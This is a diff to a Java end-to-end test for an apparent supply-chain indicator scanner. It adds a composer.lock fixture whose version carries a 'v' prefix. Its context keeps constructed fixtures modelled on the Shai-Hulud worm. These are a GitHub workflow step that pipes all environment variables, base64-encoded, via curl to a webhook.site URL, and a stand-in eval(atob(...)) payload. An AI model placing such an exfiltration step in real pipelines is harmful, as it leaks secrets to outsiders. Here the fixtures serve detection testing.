@@ -28,7 +28,8 @@ import org.junit.jupiter.api.io.TempDir;
  * findings. The monorepo's lockfiles are the real fixtures of src/test/resources/lockfiles; its IOC feeds list one
  * real triple of each fixture (from EXPECTED.tsv) in the contract's CSV and TXT forms; the workflow, the script
  * and the push payloads are constructed for this test after the published Shai-Hulud indicators, and so is one
- * OSV entry (TEST-WITHDRAWN-1, on another fixture triple) that {@code iocs-later/} withdraws.
+ * OSV entry (TEST-WITHDRAWN-1, on another fixture triple) that {@code iocs-later/} withdraws, and one composer.lock
+ * whose package's tag is written {@code v5.0.2} while the feed names {@code 5.0.2}.
  */
 class EveryFormatEndToEndTest {
 
@@ -49,6 +50,11 @@ class EveryFormatEndToEndTest {
                   - run: curl -s -d "$(env | base64)" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
             """;
     private static final String BUNDLE = "/* constructed stand-in for a worm payload */ eval(atob('Y29uc29sZQ=='));\n";
+    /** Constructed: Composer writes a tag's version with its v, advisories without it. */
+    private static final String TAGGED_LOCK = """
+            {"packages": [{"name": "acme/tagged-release", "version": "v5.0.2", "type": "library"}],
+             "packages-dev": []}
+            """;
     private static final String README = """
             # monorepo
             Models are served from https://models.litellm.cloud/ (near misses: notwebhook.site, webhook.site.example.com).
@@ -97,6 +103,9 @@ class EveryFormatEndToEndTest {
                 expected.add(line("resolved", "retro_hunt", row[0], "package", row[1], row[2], row[3], null));
             }
         }
+        // the version as the file writes it, though the feed names it without the v
+        expected.add(line("open", "baseline", "tagged/composer.lock", "package", "Packagist", "acme/tagged-release",
+                "v5.0.2", null));
         expected.add(line("open", "push", ".github/workflows/discussion.yaml", "workflow", null, null, null,
                 "SHA1HULUD"));
         expected.add(line("open", "push", ".github/workflows/discussion.yaml", "domain", null, null, null,
@@ -161,6 +170,7 @@ class EveryFormatEndToEndTest {
             }
         }
         Files.writeString(c1.resolve("README.md"), README);
+        write(c1.resolve("tagged/composer.lock"), TAGGED_LOCK);
         copyTree(c1, world.resolve("repos/" + REPO + "/" + C2));
         write(world.resolve("repos/" + REPO + "/" + C2 + "/.github/workflows/discussion.yaml"), WORKFLOW);
         write(world.resolve("repos/" + REPO + "/" + C2 + "/scripts/bundle.js"), BUNDLE);
@@ -177,6 +187,8 @@ class EveryFormatEndToEndTest {
                         .append('\n');
             }
         }
+        txt.append("# the tagged composer.lock's package, named as advisories name it\n")
+                .append("composer:acme/tagged-release:5.0.2\n");
         write(world.resolve("iocs/packages.csv"), csv.toString());
         write(world.resolve("iocs/packages.txt"), txt.toString());
         write(world.resolve("iocs/indicators.csv"), "type,value,id,severity,description\n"
